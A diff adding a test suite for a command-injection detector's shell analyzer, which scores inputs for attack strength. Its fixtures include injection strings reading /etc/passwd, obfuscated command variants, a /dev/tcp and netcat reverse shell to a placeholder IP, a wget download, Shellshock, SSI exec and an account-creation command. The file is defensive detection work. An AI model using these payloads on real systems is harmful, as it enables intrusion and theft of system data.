@@ -1,0 +1,77 @@
+import { describe, expect, test } from "bun:test";
+import { shellAnalyzer } from "../../../src/detect/analyzers/shell.ts";
+import { evidence, junk, strength, strongest } from "./helpers.ts";
+
+const s = (text: string) => strength(shellAnalyzer, text);
+
+describe("shell analyzer", () => {
+  test("a separator followed by a command is command injection", () => {
+    for (const v of [";id;", "1;id", "127.0.0.1|whoami", "x && wget http://198.51.100.7/a.sh", "a\nuname -a", "'; cat /etc/passwd #", "|| ping -c 3 10.0.0.1"]) {
+      expect(s(v)).toBeGreaterThanOrEqual(0.8);
+    }
+    expect(strongest(shellAnalyzer, "1;id")!.class).toBe("cmdi");
+  });
+
+  test("substitutions run commands: $(...), backticks, <(...)", () => {
+    expect(s("$(whoami)")).toBeGreaterThanOrEqual(0.9);
+    expect(s("name`uname -a`")).toBeGreaterThanOrEqual(0.9);
+    // A word in backticks is also how prose quotes code (`ls`): a substitution, but not a strong one alone.
+    expect(s("name`id`")).toBe(0.7);
+    expect(s("x <(curl -s http://x/y)")).toBeGreaterThanOrEqual(0.9);
+  });
+
+  test("commands hidden by quotes, escapes, carets, empty variables and globs are read as the shell reads them", () => {
+    for (const v of [";w'h'o'am'i", ";wh\\oami", ";c\"\"at /etc/passwd", ";c$u\\at /etc/passwd", ";/???/c?t /etc/passwd", "&w^h^o^a^m^i", ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}"]) {
+      expect(s(v)).toBeGreaterThanOrEqual(0.85);
+    }
+    expect(strongest(shellAnalyzer, ";w'h'o'am'i")!.rule).toBe("shell.obfuscated-command");
+  });
+
+  test("Windows commands, by absolute path too", () => {
+    expect(s("& C:\\Windows\\System32\\cmd.exe /c dir")).toBeGreaterThanOrEqual(0.9);
+    expect(s("| powershell -enc SQBFAFgA")).toBeGreaterThanOrEqual(0.9);
+    expect(s("& net user hacker P4ss /add")).toBeGreaterThanOrEqual(0.8);
+  });
+
+  test("redirection to /dev/tcp, Shellshock and server-side includes", () => {
+    expect(strongest(shellAnalyzer, "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")!.rule).toBe("shell.dev-tcp");
+    expect(strongest(shellAnalyzer, "() { :; }; /bin/bash -c id")!.rule).toBe("shell.shellshock");
+    const ssi = strongest(shellAnalyzer, '<!--#exec cmd="ls" -->')!;
+    expect([ssi.rule, ssi.strength]).toEqual(["shell.ssi", 0.95]);
+    expect(s('<!--#include virtual="/etc/passwd" -->')).toBeGreaterThanOrEqual(0.8);
+  });
+
+  test("a value that is the whole command counts only with shell syntax, and less", () => {
+    expect(s("nc -e /bin/sh 198.51.100.7 4444")).toBe(0.8);
+    expect(s("cat /etc/passwd > /tmp/x")).toBe(0.7);
+    expect(s("perl -e 'print 1'")).toBe(0.75);
+    expect(s("ls")).toBe(0);
+    expect(s("whoami")).toBe(0);
+    expect(s("Del Nuevo Mundo S/N")).toBe(0);
+  });
+
+  test("English with separators is not a strong finding", () => {
+    for (const v of ["see you; bye", "Tom & Jerry", "rock|pop", "python|php|ruby", "I love my dog; cat food", "hello;Cat /x", "Loading; please wait", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"]) {
+      expect(s(v)).toBeLessThan(0.8);
+    }
+    expect(s("rock|pop")).toBe(0);
+  });
+
+  test("a script sent as a value, and random telemetry, stay below strong", () => {
+    expect(s("#!/bin/sh\nset -x\n\nlscpu\ncat /proc/meminfo\n")).toBeLessThan(0.8);
+    expect(s("2;31591;AYNH<pZV[M^A6(Bh$#o ;dl}ULS*~C-PH+|nc>oLjPc).#ka")).toBeLessThan(0.8);
+  });
+
+  test("evidence spans the separator and the command", () => {
+    expect(evidence(shellAnalyzer, "item=5;cat /etc/passwd")).toBe(";cat /etc/passwd");
+  });
+
+  test("a 1 MB value is judged whole, and binary junk gives no throw", () => {
+    const big = "a ".repeat(500_000) + "x;cat /etc/passwd";
+    expect(s(big)).toBeGreaterThanOrEqual(0.8);
+    expect(s(";".repeat(1_000_000))).toBe(0);
+    expect(s("`".repeat(300_000) + "'".repeat(300_000))).toBeLessThan(0.8);
+    expect(() => shellAnalyzer.analyze({ text: junk(200_000), location: "body", path: "body", name: "", kind: "text" })).not.toThrow();
+    expect(s("")).toBe(0);
+  });
+});
